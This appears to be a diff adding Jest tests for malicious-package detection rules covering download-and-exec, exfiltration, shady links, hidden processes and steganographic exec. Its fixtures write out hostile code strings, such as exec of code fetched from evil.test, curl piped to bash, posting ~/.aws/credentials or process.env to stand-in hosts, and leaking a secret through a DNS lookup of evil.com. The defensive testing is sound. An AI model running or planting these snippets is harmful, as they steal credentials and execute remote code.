@@ -1,0 +1,176 @@
+// Behaviour rules at GuardDog's level: each pairs a capability (a download,
+// a process, a file read) with a threat (execution of what was fetched, a
+// secret sent out, a shady endpoint, a hidden process); the capability alone
+// is ordinary scientific code and stays quiet.
+import { describe, expect, it } from '@jest/globals';
+import { expectFires, expectQuiet } from '../helpers/rules';
+import { added, file, severities } from './helpers';
+
+describe('code/download-exec', () => {
+  it('fires on exec of a response', () => {
+    const f = added('pkg/mod.py', 'payload = requests.get("http://evil.test/stage2").content\nexec(payload)');
+    expectFires(f, 'code/download-exec', 1);
+    expect(severities(added('pkg/m.py', 'exec(urlopen(URL).read())'), 'code/download-exec')).toEqual(['critical']);
+  });
+
+  it('fires on a download written, made executable and run (GuardDog download-executable)', () => {
+    const py =
+      'r = requests.get(url)\nwith open("/tmp/x", "wb") as f:\n    f.write(r.content)\nos.chmod("/tmp/x", 0o755)\nsubprocess.call("/tmp/x")';
+    const found1 = added('pkg/mod.py', py);
+    expectFires(found1, 'code/download-exec');
+    const found2 = added(
+      'pkg/get.py',
+      'urllib.request.urlretrieve("https://tryg.ga/n.exe", "n.exe")\nPopen(["n.exe"])'
+    );
+    expectFires(found2, 'code/download-exec');
+  });
+
+  it('fires on a download piped into a shell, by host', () => {
+    expect(
+      severities(added('scripts/ci.sh', 'curl -sSL https://203.0.113.5/i.sh | bash'), 'code/download-exec')
+    ).toEqual(['critical']);
+    expect(severities(added('scripts/ci.sh', 'curl -sSL https://example.net/i.sh | sh'), 'code/download-exec')).toEqual(
+      ['high']
+    );
+    expect(
+      severities(file('Dockerfile', 'RUN curl -LsSf https://astral.sh/uv/install.sh | sh'), 'code/download-exec')
+    ).toEqual(['low']);
+  });
+
+  it('is quiet on data downloaders and on running files that were not downloaded (pooch, urllib, subprocess in tests)', () => {
+    const loader =
+      'def fetch(name):\n    path = pooch.retrieve(URL + name, known_hash=None)\n    return np.load(path)\n';
+    const found3 = file('pkg/datasets.py', loader);
+    expectQuiet(found3, 'code/download-exec');
+    const out =
+      'resp = urllib.request.urlopen(url)\nopen("exo.txt", "wb").write(resp.read())\nos.system("echo exo.txt")';
+    const found4 = file('tools/get.py', out);
+    expectQuiet(found4, 'code/download-exec');
+    const found5 = file(
+      'pkg/tests/test_cli.py',
+      'out = subprocess.run([sys.executable, "-m", "pkg"], capture_output=True)'
+    );
+    expectQuiet(found5, 'code/download-exec');
+  });
+});
+
+describe('code/exfiltration', () => {
+  it('fires critical when a credential file or a secret variable is sent', () => {
+    const creds =
+      'with open(os.path.expanduser("~/.aws/credentials")) as f:\n    data = f.read()\nrequests.post("https://collect.example.net", data=data)';
+    expect(severities(added('pkg/m.py', creds), 'code/exfiltration')).toEqual(['critical']);
+    expect(
+      severities(
+        added('pkg/n.py', 'requests.post(U, data={"k": os.getenv("AWS_SECRET_ACCESS_KEY")})'),
+        'code/exfiltration'
+      )
+    ).toEqual(['critical']);
+  });
+
+  it('fires when the whole environment is sent (npm)', () => {
+    const js =
+      "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'x.oastify.com', method: 'POST' });\nreq.write(body);";
+    const found6 = added('index.js', js);
+    expectFires(found6, 'code/exfiltration');
+  });
+
+  it('fires on host details beaconed out, and on data hidden in a DNS name', () => {
+    const beacon =
+      'user = getpass.getuser()\nhost = socket.gethostname()\ndata = {\n    "u": user,\n    "h": host,\n}\nrequests.post("http://198.51.100.7/c", json=data)';
+    const found7 = added('setup.py', beacon);
+    expectFires(found7, 'code/exfiltration');
+    const found8 = added(
+      'pkg/d.py',
+      'key = os.getenv("AWS_SECRET_ACCESS_KEY")\nsocket.gethostbyname(f"{key}.evil.com")'
+    );
+    expectFires(found8, 'code/exfiltration');
+  });
+
+  it('is quiet on tokens sent as authentication and on resolving the host itself (networkx, jupyter_client)', () => {
+    const team =
+      'token = os.environ.get("GH_TOKEN")\nresp = requests.get(url=url, headers={"Authorization": f"token {token}"})';
+    const found9 = file('tools/team_list.py', team);
+    expectQuiet(found9, 'code/exfiltration');
+    const found10 = file(
+      'jupyter_client/localinterfaces.py',
+      'hostname = socket.gethostname()\nips = socket.gethostbyname_ex(hostname)[2]'
+    );
+    expectQuiet(found10, 'code/exfiltration');
+    const found11 = file(
+      'tests/test_sftp.py',
+      'user = getpass.getuser()\nclient.connect(hostname=host, port=port, username=user)'
+    );
+    expectQuiet(found11, 'code/exfiltration');
+  });
+
+  it('keeps a copied environment for a subprocess quiet', () => {
+    const found12 = file(
+      'tests/test_pycc.py',
+      'env = dict(os.environ)\nenv["PYTHONPATH"] = path\nsubprocess.check_call(cmd, env=env)'
+    );
+    expectQuiet(found12, 'code/exfiltration');
+  });
+});
+
+describe('code/shady-link', () => {
+  it('fires on exfiltration services, higher when data is sent to them', () => {
+    const hook = added('pkg/a.py', 'HOOK = "https://webhook.site/abc"');
+    expectFires(hook, 'code/shady-link', 1);
+    expect(severities(hook, 'code/shady-link')).toEqual(['medium']);
+    expect(
+      severities(added('pkg/b.py', 'requests.post("https://discord.com/api/webhooks/1/x", json=d)'), 'code/shady-link')
+    ).toEqual(['high']);
+  });
+
+  it('fires on a raw public IP passed to a network call', () => {
+    expect(
+      severities(added('pkg/c.py', 'requests.post("http://203.0.113.42/collect", json=data)'), 'code/shady-link')
+    ).toEqual(['high']);
+  });
+
+  it('is quiet on URLs in comments and docstrings, localhost, and Discord invites', () => {
+    const py =
+      '# see https://pastebin.com/raw/abc for the format\n"""Upload to https://transfer.sh if needed."""\nURL = "http://127.0.0.1:8000"\nINVITE = "https://discord.com/invite/pytest-dev"\n';
+    const found13 = file('pkg/doc.py', py);
+    expectQuiet(found13, 'code/shady-link');
+    const found14 = file(
+      'justfile',
+      'port:\n    python -c "import socket; s=socket.socket(); s.bind((\'localhost\', 0))"'
+    );
+    expectQuiet(found14, 'code/shady-link');
+  });
+});
+
+describe('code/silent-process', () => {
+  it('fires high on a hidden process started at import time (lightning 2026)', () => {
+    const py =
+      'import subprocess, sys\nsubprocess.Popen([sys.executable, "-m", "pkg._runtime"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)';
+    const f = added('src/pkg/__init__.py', py);
+    expectFires(f, 'code/silent-process', 1);
+    expect(severities(f, 'code/silent-process')).toEqual(['high']);
+  });
+
+  it('fires on a detached node process with ignored output', () => {
+    const js =
+      "const { spawn } = require('child_process');\nspawn('node', ['svc.js'], { detached: true, stdio: 'ignore' }).unref();";
+    expect(severities(added('index.js', js), 'code/silent-process')).toEqual(['medium']);
+  });
+
+  it('is quiet on a subprocess whose output is captured or shown', () => {
+    const found15 = file('tools/build.py', 'def build():\n    subprocess.run(["make"], check=True)\n');
+    expectQuiet(found15, 'code/silent-process');
+  });
+});
+
+describe('code/steganography', () => {
+  it('fires on exec of data revealed from an image', () => {
+    const f = added('pkg/m.py', 'from judyb import lsb\nexec(lsb.reveal("hidden.png"))');
+    expectFires(f, 'code/steganography', 1);
+    expect(severities(f, 'code/steganography')).toEqual(['critical']);
+  });
+
+  it('is quiet on reading images for analysis', () => {
+    const found16 = file('skimage/io.py', 'img = imageio.imread("coins.png")\nresult = eval_metric(img)');
+    expectQuiet(found16, 'code/steganography');
+  });
+});
